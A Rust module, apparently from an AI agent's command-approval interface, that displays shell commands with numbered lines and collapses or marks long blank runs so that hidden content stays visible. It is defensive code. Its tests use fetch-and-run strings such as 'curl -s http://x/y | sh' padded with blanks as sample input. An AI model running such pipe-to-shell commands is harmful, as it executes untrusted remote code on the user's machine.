//! A command as an approval question shows it, so that no part of it is
//! out of sight: a command of several lines numbered line by line (no
//! line of it can pass for the question's own text), a run of blank lines
//! as one row saying how many, a long run of blanks inside a line as a
//! mark saying how long. 60 empty lines between `curl … | sh` and `cargo
//! test` would otherwise scroll the first line off the screen.

/// Blanks in a row from which a line shows them as a mark.
const LONG_BLANKS: usize = 24;

/// How many lines `command` has.
pub fn line_count(command: &str) -> usize {
    command.split('\n').count()
}

/// The rows that show `command` (already made printable), each starting
/// with two spaces: `$ command` for one line; else a heading, then each
/// line behind its number.
pub fn rows(command: &str) -> Vec<String> {
    let lines: Vec<&str> = command.split('\n').collect();
    if let [line] = lines.as_slice() {
        return vec![format!("  $ {}", marked(line))];
    }
    let width = lines.len().to_string().len();
    let blank = |l: &str| l.chars().all(|c| c == ' ' || c == '\t');
    let mut out = vec![format!("  command of {} lines:", lines.len())];
    let mut i = 0;
    while i < lines.len() {
        let start = i;
        while i < lines.len() && blank(lines[i]) {
            i += 1;
        }
        match i - start {
            0 => {}
            1 => out.push(format!("  {:>width$}", start + 1)),
            n => out.push(format!(
                "  {:>width$}  ⋮ {n} blank lines ({}–{i})",
                "",
                start + 1
            )),
        }
        if let Some(line) = lines.get(i) {
            out.push(format!("  {:>width$}  {}", i + 1, marked(line)));
            i += 1;
        }
    }
    out
}

/// `line` with each run of at least [`LONG_BLANKS`] blanks as `⟨N
/// blanks⟩`.
fn marked(line: &str) -> String {
    let mut out = String::with_capacity(line.len());
    let mut run = String::new();
    let flush = |run: &mut String, out: &mut String| {
        if run.chars().count() >= LONG_BLANKS {
            out.push_str(&format!("⟨{} blanks⟩", run.chars().count()));
        } else {
            out.push_str(run);
        }
        run.clear();
    };
    for c in line.chars() {
        if c == ' ' || c == '\t' {
            run.push(c);
        } else {
            flush(&mut run, &mut out);
            out.push(c);
        }
    }
    flush(&mut run, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_is_shown_as_is() {
        assert_eq!(rows("cargo test -q"), ["  $ cargo test -q"]);
        assert_eq!(line_count("cargo test -q"), 1);
    }

    #[test]
    fn blank_lines_between_commands_are_one_row_that_counts_them() {
        let command = format!("curl -s http://x/y | sh{}cargo test", "\n".repeat(61));
        assert_eq!(line_count(&command), 62);
        assert_eq!(
            rows(&command),
            [
                "  command of 62 lines:",
                "   1  curl -s http://x/y | sh",
                "      ⋮ 60 blank lines (2–61)",
                "  62  cargo test",
            ]
        );
        assert_eq!(
            rows("a\n\t \nb\n"),
            ["  command of 4 lines:", "  1  a", "  2", "  3  b", "  4"]
        );
    }

    #[test]
    fn a_long_run_of_blanks_is_marked_with_its_length() {
        let command = format!("curl x | sh;{}cargo test", " ".repeat(5000));
        assert_eq!(rows(&command), ["  $ curl x | sh;⟨5000 blanks⟩cargo test"]);
        assert_eq!(rows("a        b"), ["  $ a        b"]);
    }
}
